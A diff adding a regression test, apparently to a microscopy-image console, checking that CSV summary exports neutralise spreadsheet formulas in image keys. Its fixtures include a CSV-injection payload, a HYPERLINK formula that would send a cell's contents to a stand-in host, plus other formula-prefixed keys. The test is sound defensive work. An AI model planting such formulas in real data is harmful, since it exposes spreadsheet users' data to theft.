@@ -56,3 +56,24 @@ def test_a_folder_listing_shows_an_image_whose_results_are_under_long_keys(
     assert rows["plate/short.png"]["count"] == 2
     detail = json.loads(client.http.get(f"/console/api/image?key={quote(long_key)}").body)
     assert detail["count"] == 3 and detail["annotated"]
+
+
+def test_a_summary_csv_never_hands_a_spreadsheet_a_formula(client, s3, settings) -> None:
+    # before: an image keyed "=HYPERLINK(...)" (a name anyone who can upload may choose; S3
+    # keys take any character) was exported as is: a spreadsheet runs it (CSV injection).
+    # The predict batch's CSV already defused such cells; the console's did not.
+    import csv
+    import io
+
+    from tests.functional.test_console import count
+
+    keys = ['=HYPERLINK("http://x.example/?"&A1,"open").png', "@SUM(1+1).png", "-1+1/A01.png"]
+    for key in keys:
+        count(s3, settings, key, 2)
+    exported = client.http.get("/console/api/summary/export?format=csv&table=images")
+    rows = list(csv.DictReader(io.StringIO(exported.body.decode())))
+    assert sorted(r["key"] for r in rows) == sorted("'" + key for key in keys)
+    assert {r["count"] for r in rows} == {"2"}  # numbers stay numbers
+    wells = client.http.get("/console/api/summary/export?format=csv&table=wells")
+    plates = [r["plate"] for r in csv.DictReader(io.StringIO(wells.body.decode()))]
+    assert all(not p.startswith(("=", "+", "-", "@")) for p in plates)
